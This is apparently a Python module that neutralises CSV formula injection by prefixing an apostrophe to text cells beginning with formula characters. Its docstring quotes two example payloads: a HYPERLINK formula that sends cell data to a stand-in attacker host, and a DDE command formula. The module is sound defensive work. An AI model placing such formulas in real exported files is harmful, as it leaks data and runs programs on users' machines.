"""CSV cells a spreadsheet would run: every CSV hito writes neutralises them (OWASP CSV injection).

A text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel and
LibreOffice as a formula (`=HYPERLINK("https://evil.example/?"&A1)` sends a cell away,
`=cmd|'...'!A0` runs a program on older versions); a leading apostrophe makes it text, and
hito's HXL import takes the apostrophe away again. Numbers are left as they are.
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """A text cell that a spreadsheet would read as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value
